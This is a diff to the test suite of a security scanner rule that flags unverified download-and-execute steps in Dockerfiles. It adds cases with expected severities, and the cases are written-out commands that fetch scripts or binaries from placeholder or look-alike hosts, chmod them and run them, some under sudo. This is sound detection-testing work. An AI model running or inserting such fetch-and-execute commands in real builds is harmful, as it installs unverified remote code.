@@ -468,6 +468,19 @@ describe('download-unverified', () => {
     [`wget ${URL}.jar && java -jar tool.jar`, 'medium'],
     [`curl ${URL}.tgz | tar xz -C /usr/local`, 'medium'],
     [`curl -o x ${URL} && mv x /usr/bin/`, 'medium'],
+    [`curl -o /tmp/i ${URL}.sh && chmod +x /tmp/i && /tmp/i`, 'high'],
+    [`curl ${URL}.sh?v=1 > /tmp/i; chmod 755 /tmp/i; sudo /tmp/i -y`, 'high'],
+    [`wget -O i ${URL}.sh && install -m 755 i j && yes | ./j`, 'high'],
+    [`wget -O /tmp/install ${URL} && chmod +x /tmp/install && bash -c /tmp/install`, 'high'],
+    ['curl -LO https://a.example.com/get-tool && chmod +x get-tool && ./get-tool', 'high'],
+    ['curl https://get.example.com -o get && chmod +x get && ./get', 'high'],
+    ['curl "https://sh.example.com/?v=1" -o x && chmod +x x && ./x', 'high'],
+    [`curl -o /usr/local/bin/up ${URL}.sh && chmod +x /usr/local/bin/up && up -y`, 'high'],
+    [`curl -o /usr/local/bin/up ${URL}.sh && chmod +x /usr/local/bin/up`, 'medium'],
+    [`curl -o /usr/local/bin/tool ${URL} && chmod +x /usr/local/bin/tool && tool --version`, 'medium'],
+    ['curl -o i https://a.example.com/installer-linux-amd64 && chmod +x i && ./i', 'medium'],
+    ['curl -O https://a.example.com/tool-init && chmod +x tool-init && ./tool-init -y', 'medium'],
+    ['curl -LO https://github.com/a/b/releases/download/v1.3/install && chmod +x install && ./install', 'medium'],
     [`git clone ${REPOSITORY} && sh tool/install.sh`, 'medium'],
     ['curl -o x.sh https://repo1.maven.org/maven2/io/acme/run/1.3/run-1.3.sh && sh x.sh', 'medium'],
     ['curl -o x.sh https://repo1.maven.org.example.com/maven2/run-1.3.sh && sh x.sh', 'high'],
@@ -476,7 +489,7 @@ describe('download-unverified', () => {
     ['curl -LO https://github.com/acme/run/releases/latest/download/run.sh && sh run.sh', 'high'],
     ['curl -LO http://github.com/acme/run/releases/download/v1.3/run.sh && sh run.sh', 'high'],
     ['curl -LO https://github.com.example.com/acme/run/releases/download/v1.3/run.sh && sh run.sh', 'high'],
-  ])('is as severe as a pipe into a shell where an interpreter runs the file: %s', (script, severity) => {
+  ])('is as severe as a pipe into a shell where a script is run: %s', (script, severity) => {
     const { findings } = checkText(rule, 'Dockerfile', `FROM debian:12\nRUN ${script}\n`);
     expect(findings.map((finding) => finding.severity)).toEqual([severity]);
   });
